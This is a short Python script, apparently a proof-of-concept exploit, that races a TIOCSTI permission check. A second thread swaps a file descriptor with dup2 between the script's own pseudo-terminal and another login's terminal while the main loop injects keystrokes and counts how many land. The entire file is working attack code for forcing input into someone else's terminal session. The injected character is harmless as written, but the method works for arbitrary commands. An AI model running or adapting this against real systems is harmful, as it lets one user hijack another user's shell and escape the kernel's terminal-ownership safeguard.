"""TIOCSTI on a descriptor that is the session's own terminal when the gate
looks and another login's when the kernel runs the call: a second thread
swaps the descriptor (dup2) back and forth. argv: the other terminal, tries."""
import fcntl, os, sys, termios, threading

other = os.open(sys.argv[1], os.O_RDONLY | os.O_NOCTTY)
master, own = os.openpty()
N = os.dup(own)
tries, done, typed = int(sys.argv[2]), False, 0

def swap():
    while not done:
        os.dup2(own, N)
        os.dup2(other, N)

t = threading.Thread(target=swap)
t.start()
for _ in range(tries):
    try:
        fcntl.ioctl(N, termios.TIOCSTI, b"Z")
        typed += 1
    except OSError:
        pass
done = True
t.join()
print("typed", typed, "of", tries)
